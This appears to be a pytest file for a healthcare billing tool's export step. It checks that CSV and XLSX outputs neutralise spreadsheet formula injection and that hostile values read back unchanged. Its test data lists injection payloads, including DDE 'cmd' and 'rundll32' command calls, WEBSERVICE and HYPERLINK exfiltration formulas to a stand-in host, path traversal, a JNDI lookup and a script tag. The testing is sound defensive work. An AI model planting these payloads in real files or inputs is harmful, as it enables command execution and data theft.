"""Text that a spreadsheet would act on is inert in every output, and reads back equal."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from command import ccbill
from python_calamine import CalamineWorkbook

FIRST = ("=", "+", "-", "@", "\t", "\r", " =", "'=", "\uff1d", "\u200b=")
ACTS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid","pay")',
    'WEBSERVICE("http://example.invalid/"&A1)',
    "IMPORTXML(CONCAT(A1),A2)",
    "DDE(a;b;c)",
    "10+20+cmd|' /C notepad'!'A1'",
    "rundll32|'url.dll,OpenURL x'!A1",
    "{=A1}",
    "A1",
    "1e9",
    "2026-10-05",
    "0",
    "",
    "-1",
    '"quoted"',
    "'apostrophe",
    "@SUM(1)",
    "R1C1",
)
OTHER = (
    "http://example.invalid/a?b=c#d",
    "mailto:a@example.invalid",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "<r><t>rich</t></r>",
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "&lt;&amp;&#x41;",
    "]]>",
    "_x000D_",
    "_x0041_",
    "[bold]markup[/bold]",
    "${jndi:x}",
    "{{7*7}}",
    "%s%n%x",
    "NULL",
    "nan",
    "None",
    "TRUE",
    "#REF!",
    "1.0",
    "007",
    "1E5",
    "½",
    "٣",
    "éclair",
    "e\u0301clair",
    "日本語",
    "😀",
    "a\u202egnp.exe",
    "\u2066isolated\u2069",
    "a\u00a0b",
    "a" * 2000,
    "x,y;z|w",
    "..",
    "../../etc",
    "CON",
    "~$log",
    "*",
    "?",
)


def strings() -> list[str]:
    """At least 500, each once."""
    made = [first + act + end for first in FIRST for act in ACTS for end in ("", " x", "\nz")]
    return list(dict.fromkeys(text for text in (*made, *OTHER) if text.strip()))


HEADINGS = (
    *("activity_id", "patient_id", "payer", "service_date", "minutes", "kind", "mode"),
    *("credential", "last_name", "note"),
)
USUAL = ("BCBSM", "2026-10-05", 46, "care-coordination", "phone", "RN")
ACTING = ("=", "+", "-", "@", "\t", "\r")
UNSEEN = "\u200b\u2066\u2069\u202e\ufeff"


def write(path: Path, texts: list[str]) -> None:
    """An export in which each text is a patient's id, and another patient's name and note."""
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(HEADINGS)
        for number, text in enumerate(texts):
            writer.writerow([f"A{number}", f"{text}~{number}", *USUAL, "Doe", text])
            writer.writerow([f"B{number}", f"P{number}", *USUAL, text, text])
        writer.writerow(["A", "=bad", "BCBSM", "=1+1", "=2", "=cmd", "=a", "=b", "=c", "=d"])


def run(folder: Path) -> Path:
    done = ccbill(
        *("run", "log.csv", "--no-ledger", "--format", "xlsx", "--format", "csv"),
        *("--today", "2026-11-02"),
        cwd=folder,
    )
    assert done.returncode == 0, done.stderr
    return folder / "ccbill-out"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("hostile")
    write(home / "log.csv", strings())
    return run(home)


def trimmed(text: str) -> str:
    """Intake takes away the spaces, and the signs that nobody sees, around a cell."""
    while text != (text := text.strip().strip(UNSEEN)):
        pass
    return text


def ids(texts: list[str]) -> set[str]:
    own = {trimmed(f"{text}~{number}") for number, text in enumerate(texts)}
    return own | {f"P{number}" for number in range(len(texts))}


def held(patient: str) -> bool:
    """No identifier has marks around it, or a line end, a tab, a quotation mark or a sign in it
    that nobody sees: another patient's could look the same."""
    marks = "'`\"\u2018\u2019\u201a\u201c\u201d\u201e\u00ab\u00bb"
    return patient[0] in marks or any(sign in patient for sign in f'"\t\r\n\u00a0{UNSEEN}')


def names(texts: list[str]) -> set[str]:
    """A spreadsheet's error is no name: it is taken as blank, and noted."""
    return {"Doe", *("" if text == "#REF!" else trimmed(text) for text in texts)}


def guarded(texts: set[str]) -> set[str]:
    """As a CSV file has them."""
    return {"'" + text if text.startswith(ACTING) else text for text in texts}


def column(book: Path, sheet: str, heading: str) -> list[object]:
    headings, *rows = CalamineWorkbook.from_path(str(book)).get_sheet_by_name(sheet).to_python()
    return [row[headings.index(heading)] for row in rows]


def texts_of(path: Path, heading: str) -> set[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return {row[heading] for row in csv.DictReader(file)}


def test_there_are_enough() -> None:
    assert len(strings()) >= 500


@pytest.mark.parametrize("name", ["claims.xlsx", "exceptions.xlsx"])
def test_no_formula_and_no_link_in_a_workbook(home: Path, name: str) -> None:
    book = openpyxl.load_workbook(home / name)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert any(isinstance(cell.value, str) and cell.value.startswith("=") for cell in cells)


def test_a_workbook_reads_back_equal(home: Path) -> None:
    everyone = ids(strings())
    billed = {patient for patient in everyone if not held(patient)}
    assert set(column(home / "claims.xlsx", "Claims", "patient_id")) == billed
    assert set(column(home / "claims.xlsx", "Claims", "last_name")) == names(strings())
    told = set(column(home / "exceptions.xlsx", "Unreadable rows", "patient_id"))
    assert told - {"=bad"} == everyone - billed
    notes = set(column(home / "exceptions.xlsx", "Unreadable rows", "note"))
    assert notes >= {trimmed(text) for text in strings() if held(trimmed(text) or "x")} - {""}


def cells(path: Path) -> Iterator[str]:
    with path.open(newline="", encoding="utf-8") as file:
        for row in csv.reader(file):
            yield from row


def test_a_csv_has_no_cell_that_acts_and_reads_back_equal(home: Path) -> None:
    for path in home.glob("*.csv"):
        acting = [cell for cell in cells(path) if cell.startswith(("=", "+", "@", "\t", "\r"))]
        assert acting == [], path.name
    assert texts_of(home / "claims.csv", "last_name") == guarded(names(strings()))
    known = texts_of(home / "activities.csv", "patient_id")
    assert known == guarded(ids(strings()) | {"=bad"})


@pytest.mark.skipif("CCBILL_CORPUS" not in os.environ, reason="CCBILL_CORPUS names no corpus")
def test_published_lists_of_hostile_text(tmp_path: Path) -> None:
    folder = Path(os.environ["CCBILL_CORPUS"])
    listed = {
        line.strip()
        for part in ("blns", "csv-injection")
        for path in (folder / part).rglob("*.txt")
        for line in path.read_text(encoding="utf-8", errors="ignore").splitlines()
        if trimmed(line) and not line.startswith("#") and line.isprintable()
    }
    # A quotation mark after a backslash is two cells to some readers: such a file is refused.
    texts = sorted(text for text in listed if '\\"' not in text)
    assert len(texts) > 450
    write(tmp_path / "log.csv", texts)
    out = run(tmp_path)
    assert set(column(out / "claims.xlsx", "Claims", "last_name")) == names(texts)
    billed = {patient for patient in ids(texts) if not held(patient)}
    assert billed >= set(column(out / "claims.xlsx", "Claims", "patient_id"))
    known = texts_of(out / "activities.csv", "patient_id")
    assert known == guarded(ids(texts) | {"=bad"})
